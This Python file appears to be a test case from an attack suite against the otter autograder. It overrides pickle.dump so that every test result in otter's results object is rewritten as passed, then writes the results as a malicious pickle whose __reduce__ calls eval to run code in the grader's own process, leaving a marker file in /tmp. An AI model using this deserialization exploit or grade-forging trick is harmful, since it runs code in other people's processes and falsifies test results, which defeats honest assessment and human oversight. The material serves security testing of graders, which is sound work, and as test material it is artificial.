"""Overwrites otter's results file (a pickle in the temporary folder) after it was written with one that runs code in otter's own process.

family: pickle
start: blank
"""

# %% after plot
import atexit
import glob
import os
import pickle
import tempfile


class _Payload:
    """Says that it was loaded, and becomes whatever was expected."""

    def __init__(self, genuine):
        self.genuine = genuine

    def __reduce__(self):
        code = (
            "__import__('builtins').open('/tmp/autograder-attack-pickle_results_of_otter', 'a').write("
            "'loaded by process ' + str(__import__('os').getpid()) + chr(10)) and __import__('pickle').loads(" + repr(self.genuine) + ")"
        )
        return (eval, (code,))


_dump = pickle.dump


def _lying_dump(thing, file, *args, **kwargs):
    try:
        for test in thing.results.values():
            test.test_case_results = [type(r)(test_case=r.test_case, message="passed", passed=True) for r in test.test_case_results]
    except Exception:
        pass
    file.write(pickle.dumps(_Payload(pickle.dumps(thing))))


pickle.dump = _lying_dump
